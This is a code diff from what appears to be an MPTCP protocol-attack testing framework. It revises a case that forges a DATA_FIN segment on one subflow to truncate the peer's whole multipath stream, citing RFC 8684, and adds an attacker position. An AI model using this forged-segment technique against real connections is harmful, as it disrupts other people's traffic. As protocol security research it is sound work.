@@ -5,8 +5,8 @@ static void send_data_fin(struct plait_attack *a, const struct plait_numbers *nu
 {
     struct plait_segment fin = plait_forged(numbers, PLAIT_ACK);
     /* No data: subflow sequence number 0, length 1, the number of the DATA_FIN itself (N27). */
-    plait_add_option(&fin, PLAIT_DSS)->dss = (struct plait_dss){
-        .data_fin = true, .has_map = true, .dsn_is_64 = true, .dsn = dsn, .data_length = 1};
+    plait_add_option(&fin, PLAIT_DSS)->dss =
+        (struct plait_dss){.data_fin = true, .has_map = true, .dsn = dsn, .data_length = 1};
     plait_send(a, &fin);
 }
 
@@ -19,7 +19,8 @@ static void try_wrong(struct plait_attack *a, const struct plait_numbers *number
 static void run(struct plait_attack *a)
 {
     plait_take_position(a);
-    struct plait_numbers numbers = plait_get_numbers(a, 0, PLAIT_ACCEPT_IN_WINDOW, try_wrong, NULL);
+    struct plait_numbers numbers =
+        plait_get_numbers(a, plait_subflow_here(a), PLAIT_ACCEPT_IN_WINDOW, try_wrong, NULL);
     uint64_t dsn = plait_get_dsn(a);
     plait_step(a, "ends the peer's stream with one empty segment");
     send_data_fin(a, &numbers, dsn);
@@ -34,10 +35,9 @@ static void run(struct plait_attack *a)
     }
 
 static const struct plait_case cases[] = {
-    CASE(PLAIT_SERVER, "ON1-E", PLAIT_BULK),
-    CASE(PLAIT_SERVER, "PE-H", PLAIT_IDLE),
-    CASE(PLAIT_SERVER, "OFF", PLAIT_IDLE),
-    CASE(PLAIT_CLIENT, "ON1-E", PLAIT_BULK),
+    CASE(PLAIT_SERVER, "ON1-E", PLAIT_BULK), CASE(PLAIT_SERVER, "PE-H", PLAIT_IDLE),
+    CASE(PLAIT_SERVER, "OFF", PLAIT_IDLE),   CASE(PLAIT_CLIENT, "ON1-E", PLAIT_BULK),
+    CASE(PLAIT_SERVER, "ON2-E", PLAIT_BULK),
 };
 
 const struct plait_threat plait_threat_dfin_1 = {
@@ -49,7 +49,7 @@ const struct plait_threat plait_threat_dfin_1 = {
             .source = "RFC 8684 §3.3.3",
             .section = SECTION_DATA,
             .summary = "One segment on one path ends the stream of all paths.",
-            .positions = PLAIT_LIST("ON1-E", "PE-H", "OFF"),
+            .positions = PLAIT_LIST("ON1-E", "ON2-E", "PE-H", "OFF"),
             .goals = PLAIT_LIST("truncate"),
             .mechanisms = PLAIT_LIST("v0", "v1"),
             .host_risk = "none",
